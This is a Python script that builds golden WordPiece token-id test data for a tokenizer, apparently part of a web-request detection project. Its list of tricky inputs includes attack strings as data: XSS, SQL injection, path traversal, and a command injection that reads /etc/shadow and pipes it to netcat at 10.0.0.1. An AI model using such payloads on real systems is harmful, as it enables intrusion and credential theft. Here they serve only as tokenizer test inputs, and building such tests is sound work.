#!/usr/bin/env python3
"""Golden ids for the engine's WordPiece tokenizer, made by Hugging Face's
reference (pure Python) BertTokenizer, uncased, with the vocabulary the project
ships (models/vocab/bert-uncased/vocab.txt).

    $(scripts/python_env.sh) models/train/make_tokenizer_golden.py

Writes tests/data/tokenizer_golden.jsonl: {"text", "ids"} per line, ids from
tokenizer(text, truncation=True, max_length=128). Deterministic.
"""
import csv
import json
import os
import random

from transformers import BertTokenizer

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
VOCAB = os.path.join(ROOT, "models", "vocab", "bert-uncased", "vocab.txt")
OUT = os.path.join(ROOT, "tests", "data", "tokenizer_golden.jsonl")
DATA = os.path.join(ROOT, "..", "shared", "data", "http_params", "train.csv")
MAX_LENGTH = 128

HARD = [
    "", " ", "\t\n\r", "Hello, World!", "HELLO world", "héllo wörld ÀÉÎÕÜ ñ ç ß", "Crème brûlée à la carte",
    "naïve café résumé", "e\u0301 combining acute", "A\u030a vs \u00c5", "ﬁ ligature ﬂ", "Ｆｕｌｌｗｉｄｔｈ ＡＢＣ １２３",
    "ΟΔΥΣΣΕΥΣ ΣΙΣΥΦΟΣ Σ", "İstanbul ıi İI", "Straße STRASSE", "ǅungla Ǆ", "ÅNGSTRÖM Ω Ω",
    "中文分词测试", "日本語のテキスト、カタカナ", "한국어 텍스트입니다", "混合 mixed 文本 text", "𠀀𠀁 rare CJK ext B",
    "emoji 😀👍🏽 👨‍👩‍👧 flags 🇫🇷", "zero\u200bwidth\u200cjoiner\u200d", "soft\u00adhyphen", "bidi \u202etext\u202c",
    "control \x01\x02\x07\x1b[31m ansi", "nul\x00byte", "tab\tsep\tvalues", "line1\nline2\r\nline3", "\u00a0nbsp\u2003em\u3000ideo",
    "[CLS] inside [SEP] text [MASK] and [PAD] [UNK]", "[cls] lower [sep]", "x[CLS]y", "[[CLS]]",
    "unaffable unbelievable antidisestablishmentarianism", "a" * 150, "supercalifragilistic" * 8,
    " ".join(["word"] * 200), "1,234.56 $100 50% #hashtag @user user@example.com",
    "http://example.com/path?query=1&x=%27%20OR%201=1--", "C:\\Windows\\System32\\cmd.exe /c dir",
    "<script>alert('xss')</script>", "' OR '1'='1' --", "../../../../etc/passwd%00", "; cat /etc/shadow | nc 10.0.0.1 4444",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0",
    "2026-11-20T10:00:00.123Z sshd[1234]: Failed password for invalid user admin from 203.0.113.7 port 22 ssh2",
    "Привет мир ЁЖИК", "مرحبا بالعالم", "שלום עולם", "नमस्ते दुनिया", "สวัสดีชาวโลก", "Tiếng Việt có dấu",
    "¿Qué tal? ¡Bien! «citas» „Anführungszeichen“ ‘single’ “double” — – … ·", "math ∑∫√∞ ≤≥ ± × ÷ → ⇒",
    "\U0001d400\U0001d401 bold math", "ⅫⅣ roman ① circled", "½ ¾ ² ³", "™ © ®", "\ufeffbom at start",
    "\U000e0001 tag char", "\ue000 private use", "\u0378 unassigned",
]


def real_strings(rng):
    out = []
    if os.path.exists(DATA):
        with open(DATA, newline="", encoding="utf-8") as f:
            rows = list(csv.DictReader(f))
        rng.shuffle(rows)
        out += [r["payload"] for r in rows[:1600]]
    sample = os.path.join(ROOT, "config", "samples", "web-access.jsonl")
    with open(sample, encoding="utf-8") as f:
        lines = f.read().splitlines()
    rng.shuffle(lines)
    for line in lines[:300]:
        ev = json.loads(line)
        out.append(ev["user_agent"]["original"])
        out.append(ev["url"]["path"] + "?" + ev["url"]["query"])
    out += lines[:100]  # whole log lines: long, truncated at 128
    return out


def main():
    rng = random.Random(20261121)
    tok = BertTokenizer(VOCAB, do_lower_case=True)
    texts = HARD + real_strings(rng)
    os.makedirs(os.path.dirname(OUT), exist_ok=True)
    with open(OUT, "w", encoding="utf-8") as f:
        for t in texts:
            ids = tok(t, truncation=True, max_length=MAX_LENGTH)["input_ids"]
            f.write(json.dumps({"text": t, "ids": ids}, ensure_ascii=False) + "\n")
    print(f"{len(texts)} strings -> {OUT}")


if __name__ == "__main__":
    main()
